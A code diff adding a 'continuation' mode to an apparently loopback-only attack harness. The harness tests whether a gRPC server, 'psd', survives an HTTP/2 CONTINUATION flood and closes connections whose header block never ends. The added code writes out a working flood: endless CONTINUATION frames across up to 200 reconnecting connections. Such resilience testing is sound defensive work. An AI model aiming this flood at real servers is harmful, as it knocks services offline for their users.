@@ -19,6 +19,12 @@ Only loopback targets are accepted; every loop is bounded in count and time.
                     takes them (at most --max-streams)
             deaf    N GetParameters calls on one connection that is never
                     read again (no flow control window, no PING answered)
+            continuation
+                    one stream's HEADERS without END_HEADERS, then
+                    CONTINUATION frames of small headers as fast as psd takes
+                    them, never ending the header block (the 2024 HTTP/2
+                    "CONTINUATION flood") and never reading; a new connection
+                    when psd closes one
   options: --tls CA CERT KEY  (mutual TLS, server name "localhost")
            --token T          attacker's token ('' = none)
            --good-token T     well-behaved client's token
@@ -374,7 +380,8 @@ def expect_ended(a, conns, good):
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("attack", choices=["stall", "silent", "reset", "reset-many", "forge", "deaf"])
+    ap.add_argument("attack", choices=["stall", "silent", "reset", "reset-many", "forge", "deaf",
+                                           "continuation"])
     ap.add_argument("--conns", type=int, default=300, help="reset-many: connections kept open")
     ap.add_argument("--rate", type=float, default=150, help="reset-many: resets a second per connection")
     ap.add_argument("host")
@@ -557,6 +564,51 @@ def main():
                     good.failed.append(f"only {len(mon.lat)} monitor calls answered")
             if a.expect_ended is not None and not a.keep_up:
                 extra += expect_ended(a, conns, good)
+        elif a.attack == "continuation":
+            # gRPC 1.51 keeps every header of a block that never ends: psd
+            # must close the connection (it sees no call, only bytes)
+            cont = b"".join(frame(9, 0, 1, b"\x00\x03abc\x03xyz") for _ in range(1000))
+            c = None
+            cut = slow = opened = 0
+            last_sample = 0
+            while attacking() and opened < 200:
+                if c is None or c.closed:
+                    if c is not None:
+                        cut += not c.stalled
+                        slow += c.stalled
+                        c.close()
+                    try:
+                        c = H2Conn(a.host, a.port, a.tls, source=a.source)
+                    except OSError:
+                        c = None
+                        time.sleep(0.1)
+                        continue
+                    opened += 1
+                    conns.append(c)
+                    block = headers_block("/ps.ParameterServer/Status", authority, c.scheme, a.token)
+                    try:
+                        c.send(frame(1, 0, 1, block))  # no END_HEADERS
+                    except OSError:
+                        c.closed = True
+                        continue
+                try:
+                    c.send(cont)
+                    sent += 1000
+                except socket.timeout:
+                    c.send_stalled()
+                except OSError:
+                    c.closed = True
+                now = time.monotonic()
+                if now - last_sample > 0.2:  # never reads: psd's SETTINGS stay unacknowledged
+                    peak = max(peak, rss_mb(a.pid) or 0)
+                    last_sample = now
+            if c is not None and c.closed:
+                cut += not c.stalled
+                slow += c.stalled
+            extra = (f", {sent} CONTINUATION frames sent ({sent / a.seconds:.0f}/s) on {opened} connections, "
+                     f"{cut} closed by psd, {slow} given up (a send not read for 2 s)")
+            if a.expect_cut and cut < 1:
+                good.failed.append("psd never closed a connection whose header block never ends")
         elif a.attack == "reset-many":
             # rapid reset spread over many connections from one address,
             # each under the per-connection threshold (issue 23 item 2)
